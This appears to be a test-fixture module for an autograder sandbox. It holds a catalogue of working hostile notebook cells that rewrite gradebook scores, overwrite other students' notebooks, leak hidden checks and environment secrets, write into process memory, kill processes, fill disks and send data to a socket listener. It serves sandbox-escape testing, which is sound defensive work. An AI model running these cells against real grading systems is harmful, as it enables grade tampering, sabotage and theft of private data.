"""A catalogue of hostile cells, by category: what a student could try against the grader itself.

Each attack is a code cell inserted into an otherwise honest submission. It runs twice during
grading, in the jailed kernel and in the jailed check worker, and searches for its targets
instead of assuming where they are (the course directory, the gradebook, other students'
submissions, the reference engine, the hidden checks, the grader's processes), so it would
succeed wherever those were reachable. ``{port}`` is a TCP listener the test opens outside the
sandbox; ``{marker}`` names every process an attack starts, so the test can look for survivors.
"""

from __future__ import annotations

FIND = r'''
import os
def _find(names, roots=('/', ), limit=200000):
    """Every path whose basename is in names, walking the whole visible file system."""
    found, seen = [], 0
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            if dirpath.startswith(('/proc', '/sys', '/dev')):
                dirnames[:] = []
                continue
            for name in dirnames + filenames:
                seen += 1
                if name in names:
                    found.append(os.path.join(dirpath, name))
            if seen > limit:
                return found
    return found
'''

ATTACKS: dict[str, str] = {
    # the grader's memory, through /proc/<pid>/mem of any process that is not this one
    "grader-memory": FIND + r'''
wrote = []
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()] + [str(os.getppid())]:
    try:
        with open(f'/proc/{pid}/mem', 'r+b') as fh:
            fh.seek(0x400000)
            fh.write(b'\x00')
            wrote.append(pid)
    except Exception:
        pass
print('wrote into the memory of', wrote)
''',
    # replace the worker's own protocol loop with one that answers from the reference engine on disk
    "protocol-loop": FIND + r'''
import sys
main = sys.modules.get('__main__')
engines = [p for p in _find({'engine.py'}) if 'zengrad_ref' in p]
print('reference engines found:', engines)
if engines and main is not None and hasattr(main, 'run_program'):
    import importlib.util
    spec = importlib.util.spec_from_file_location('zr_engine', engines[0])
    ref = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(ref)
    main.NS['Value'] = ref.Value
''',
    # the gradebook's master copies of the test cells, and every grade in it
    "gradebook-rows": FIND + r'''
import sqlite3
for db in _find({'gradebook.db'}):
    try:
        con = sqlite3.connect(db)
        con.execute("update source_cell set source = 'pass'")
        con.execute("update grade set auto_score = 99")
        con.commit()
        print('rewrote', db)
    except Exception as exc:
        print('could not write', db, exc)
''',
    # other students' submitted notebooks
    "other-students": FIND + r'''
for folder in _find({'submitted'}):
    for dirpath, _, filenames in os.walk(folder):
        for name in filenames:
            if name.endswith('.ipynb'):
                try:
                    open(os.path.join(dirpath, name), 'w').write('{}')
                    print('overwrote', name)
                except Exception:
                    pass
''',
    # hold the gradebook's lock from a process that outlives the cell
    "sqlite-lock": FIND + r'''
import sqlite3, time
if os.fork() == 0:
    os.setsid()
    for db in _find({'gradebook.db'}):
        try:
            con = sqlite3.connect(db, timeout=0)
            con.execute('begin exclusive')
            print('holding the lock of', db)
        except Exception:
            pass
    time.sleep(600)
    os._exit(0)
''',
    # read the hidden checks, other students' work and the grader's environment into our own feedback
    "read-hidden": FIND + r'''
print('ENV', dict(os.environ))
for path in _find({'ps1.py', 'gradebook.db', 'nbgrader_config.py', 'outcomes.json'})[:20]:
    try:
        print('LEAK', path, open(path, errors='replace').read()[:2000])
    except Exception:
        pass
try:
    print('PARENT ENV', open(f'/proc/{os.getppid()}/environ').read()[:2000])
except Exception:
    pass
''',
    # fill the disk: 2 GB wherever a write goes through
    "disk-filler": FIND + r'''
block = b'x' * (1 << 20)
for folder in ['.', '/tmp', *_find({'autograded', 'submitted', 'feedback'})]:
    try:
        with open(os.path.join(folder, 'filler.bin'), 'wb') as fh:
            for _ in range(2048):
                fh.write(block)
    except Exception as exc:
        print('stopped in', folder, type(exc).__name__)
''',
    # leave many processes running after grading
    "process-spawner": r'''
import os, subprocess
started = 0
for _ in range(200):
    try:
        subprocess.Popen(['/bin/sh', '-c', 'exec -a {marker} sleep 600'], start_new_session=True)
        started += 1
    except Exception:
        break
print('started', started)
''',
    # print 200 MB from one cell
    "print-flood": r'''
import sys
line = 'y' * 1023 + '\n'
for _ in range(200 * 1024):
    sys.stdout.write(line)
''',
    # a detached process that rewrites the gradebook and classmates' files after its own grading
    "detached-writer": FIND + r'''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(20)
        for db in _find({'gradebook.db'}):
            try:
                import sqlite3
                con = sqlite3.connect(db)
                con.execute("update grade set auto_score = 0")
                con.commit()
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
''',
    # edit the hidden checks where the course keeps them
    "edit-checks": FIND + r'''
for path in _find({'ps1.py', 'gradients.py'}):
    if 'checks' in path:
        try:
            open(path, 'a').write('\nREGISTRY.clear()\n')
            print('edited', path)
        except Exception:
            pass
''',
    # kill the grader and every sibling it can see
    "kill-everyone": r'''
import os, signal
me = os.getpid()
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()] + [os.getppid()] + list(range(2, 4000)):
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
print('tried')
''',
    # answer the grader with huge replies from inside the worker
    "huge-replies": r'''
import os, sys, struct
if len(sys.argv) > 2 and sys.argv[2].isdigit():
    data = b'[' + b'0,' * (12 << 20) + b'0]'
    for _ in range(3):
        try:
            os.write(int(sys.argv[2]), struct.pack('>I', len(data)) + data)
        except Exception:
            break
''',
    # the network: a listener on this machine, outside the sandbox
    "network": r'''
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(b'LEAKED FROM A SANDBOX')
    print('connected')
except Exception as exc:
    print('no network', type(exc).__name__)
''',
    # harm its own sandbox's processes: the only victim must be itself
    "kills-itself": r'''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
''',
}


def attack_cell(name: str, port: int, marker: str) -> str:
    return ATTACKS[name].replace("{port}", str(port)).replace("{marker}", marker)
